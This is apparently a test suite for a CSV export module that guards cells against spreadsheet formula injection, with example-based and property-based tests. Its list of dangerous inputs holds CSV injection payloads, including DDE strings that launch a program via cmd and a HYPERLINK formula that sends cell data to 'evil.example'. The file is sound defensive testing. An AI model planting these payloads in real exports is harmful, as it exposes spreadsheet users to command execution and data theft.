import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvText, formulaStarts } from '../src/text/csv.ts';
import { parseCsv as parse } from './support/parse-csv.ts';

/**
 * CSV cells are safe to open in a spreadsheet (OWASP "CSV Injection"): no cell, and no piece of a
 * cell that a spreadsheet could split off with another separator (`;` in many European locales, tab,
 * `|`, a line break), starts with `=`, `+`, `-`, `@`, tab or carriage return (or their full-width forms).
 */

/** The writer only ever adds `'` characters: without them, the text is what was given. */
const unguard = (cell: string) => cell.replaceAll("'", '');

const DANGEROUS = [
  '=1+1',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'Dr Smith;=HYPERLINK("http://evil.example/?"&A1,"open")',
  'note,=HYPERLINK("x")',
  'ok\t=HYPERLINK("x")',
  'ok|=HYPERLINK("x")',
  'line one\n=HYPERLINK("x")',
  'a; =1+1',
  'a;"=1+1"',
  'a;;;-1',
];

describe('csvCell', () => {
  it.each(DANGEROUS)('%j: every separator-split piece is text', (value) => {
    const cell = csvCell(value);
    expect(formulaStarts(cell)).toBe(false);
    // Read back as RFC 4180: the same text, but for the guard characters.
    expect(parse(`${cell}\n`)).toEqual([[expect.any(String)]]);
    expect(unguard(parse(`${cell}\n`)[0]![0]!)).toBe(unguard(value));
  });

  it('plain text and numbers are written as they are', () => {
    expect(csvCell('Triage nurse')).toBe('Triage nurse');
    expect(csvCell('2026-03-02T16:00:00.000Z')).toBe('2026-03-02T16:00:00.000Z');
    expect(csvCell(7.5)).toBe('7.5');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell('said "hi"')).toBe('"said ""hi"""');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
  });

  it('property: any text becomes one cell that reads back to it, with no formula anywhere in it', () => {
    const alphabet = fc.constantFrom(...'=+-@\t\r\n,;|" \'aZ1＝＋－＠'.split(''));
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: alphabet })), (value) => {
        const cell = csvCell(value);
        expect(formulaStarts(cell)).toBe(false);
        const back = parse(`${cell}\n`);
        expect(back).toHaveLength(1);
        expect(back[0]).toHaveLength(1);
        expect(unguard(back[0]![0]!)).toBe(unguard(value));
      }),
      { numRuns: 2000 },
    );
  });
});

describe('csvLine and csvText', () => {
  it('join cells with commas and lines with \\n, ending with one', () => {
    expect(csvLine(['a', 1, null, '=x'])).toBe("a,1,,'=x");
    expect(
      csvText([
        ['h1', 'h2'],
        ['v', ';-1'],
      ]),
    ).toBe('h1,h2\nv,";\'-1"\n');
  });
});

describe('formulaStarts (the check every export is held to)', () => {
  it('finds a formula at the start of the file, a cell, or after any separator', () => {
    expect(formulaStarts('=1')).toBe(true);
    expect(formulaStarts('a,=1')).toBe(true);
    expect(formulaStarts('a;=1')).toBe(true);
    expect(formulaStarts('a\n-x')).toBe(true);
    expect(formulaStarts('a;-1.5,+2')).toBe(false);
    expect(formulaStarts('"a;""=1"""')).toBe(true);
    expect(formulaStarts("a;'=1")).toBe(false);
    expect(formulaStarts('a-b,c+d')).toBe(false);
  });
});
